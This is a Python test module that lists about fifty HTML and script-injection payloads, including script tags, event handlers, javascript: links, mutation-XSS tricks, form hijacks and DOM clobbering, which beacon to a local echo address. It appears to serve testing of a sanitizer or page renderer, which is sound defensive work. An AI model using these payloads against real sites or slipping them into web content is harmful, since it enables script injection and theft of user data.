# ruff: noqa: E501  an attack is written as it comes
"""Pages that a hostile site might have served: what each tries, and its markup.

Every attack calls for the address ECHO or changes the title of the page when it succeeds.
"""

ECHO = "http://127.0.0.1:9/echo"
RUN = "document.title='run';new Image().src='" + ECHO + "'"

ATTACKS = {
    "script": f"<script>{RUN}</script>",
    "foreign script": f'<script src="{ECHO}/a.js"></script>',
    "script in capitals and torn": f"<SCR\x00IPT>{RUN}</SCRIPT><scr<script>ipt>{RUN}</scr</script>ipt>",
    "event handlers": f'<img src=x onerror="{RUN}"><body onload="{RUN}"><div onmouseover={RUN!r}>x</div>',
    "handler without quotes": f"<svg/onload={RUN.replace(' ', '/**/')}>",
    "handler behind a slash": f'<img/src="x"/onerror="{RUN}">',
    "image": f'<img src="{ECHO}/a.png" srcset="{ECHO}/b.png 2x"><picture><source srcset="{ECHO}/c"></picture>',
    "image as input": f'<input type="image" src="{ECHO}/a.png"><input autofocus onfocus="{RUN}">',
    "link to javascript": f'<a href="javascript:{RUN}" id=go>go</a><a href="&#106;avascript:{RUN}">go</a>',
    "link that leaves": f'<a href="{ECHO}" target="_top" rel="opener" ping="{ECHO}">go</a>',
    "style with an address": f"<style>@import url({ECHO}/a.css);body{{background:url({ECHO}/b)}}</style>",
    "style attribute": f'<p style="background:url({ECHO}/c);position:fixed;inset:0">x</p>',
    "style sheet": f'<link rel="stylesheet" href="{ECHO}/a.css"><link rel="prefetch" href="{ECHO}">',
    "preconnect": f'<link rel="dns-prefetch" href="{ECHO}"><link rel="preload" as="image" href="{ECHO}">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={ECHO}">',
    "policy of its own": '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    "base": f'<base href="{ECHO}/"><a href="a">x</a><img src="b">',
    "form": f'<form action="{ECHO}" id=f><input name=a value=secret><button>Send</button></form>',
    "form that sends itself": f'<form action="{ECHO}" id=g></form><script>g.submit()</script>',
    "button of a form": f'<button formaction="{ECHO}" form="f">x</button><isindex action="{ECHO}">',
    "frames": f'<iframe src="{ECHO}"></iframe><iframe srcdoc="<script>{RUN}</script>"></iframe>',
    "frameset": f'<frameset><frame src="{ECHO}"></frameset>',
    "objects": f'<object data="{ECHO}"></object><embed src="{ECHO}"><applet code="{ECHO}"></applet>',
    "sound and film": f'<video src="{ECHO}" poster="{ECHO}" autoplay></video><audio src="{ECHO}">',
    "svg": f'<svg><script>{RUN}</script><image href="{ECHO}"/><use href="{ECHO}#a"/></svg>',
    "svg with a link": f'<svg><a xlink:href="javascript:{RUN}"><text y="9">x</text></a></svg>',
    "animation of a link": f'<svg><a><animate attributeName="href" values="javascript:{RUN}"/></a></svg>',
    "math": f'<math><mtext></p><style><img src=x onerror="{RUN}"></style></mtext></math>',
    "mutation by noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    "mutation by table": f"<table><math><mglyph><style><img src=x onerror={RUN}></table>",
    "mutation by form": f'<form><math><mtext></form><form><mglyph><style></math><img src onerror="{RUN}">',
    "mutation by title": f"<title><p title='</title><img src=x onerror={RUN}>'></title>",
    "mutation by comment": f"<!--><img src=x onerror={RUN}>--><!--[if IE]><script>{RUN}</script><![endif]-->",
    "cdata": f"<svg><![CDATA[><image xlink:href='{ECHO}' onload={RUN}>]]></svg>",
    "template": f'<template shadowrootmode="open"><script>{RUN}</script><img src="{ECHO}"></template>',
    "textarea": f"<textarea></textarea><img src=x onerror={RUN}></textarea>",
    "plaintext and xmp": f"<xmp><p></xmp><img src=x onerror={RUN}><plaintext><script>{RUN}</script>",
    "background": f'<body background="{ECHO}/a.png"><table background="{ECHO}/b.png"><td>x</table>',
    "attributes of citations": f'<q cite="{ECHO}">x</q><del cite="{ECHO}">y</del>',
    "custom element": f'<x-a onclick="{RUN}" is="script">x</x-a><slot name=a></slot>',
    "name that clobbers": '<a id="body" name="body">x</a><img name="cookie"><form id="title"></form>',
    "half a tag": f'<img src="{ECHO}/a.png" onerror="{RUN}"',
    "half a quote": f'<p title="><img src=x onerror={RUN}>',
    "utf-7": "+ADw-script+AD4-document.title='run'+ADw-/script+AD4-",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;alert(2)&#60;/script&#62;",
    "bidi": "\u202e<script>alert(1)</script>\u202c",
    "manifest": f'<html manifest="{ECHO}"><link rel="manifest" href="{ECHO}">',
    "details": f'<details open ontoggle="{RUN}"><summary>x</summary>y</details>',
    "marquee": f'<marquee onstart="{RUN}">x</marquee>',
    "vbscript and data": f'<a href="vbscript:x">a</a><a href="data:text/html,<script>{RUN}</script>">b</a>',
}


def page(markup: str) -> bytes:
    """A page around an attack, with words of which one can see that it was shown."""
    return f'<!doctype html><html lang="ru"><head><meta charset="utf-8"></head><body><p>до</p>{markup}<p>после'.encode()
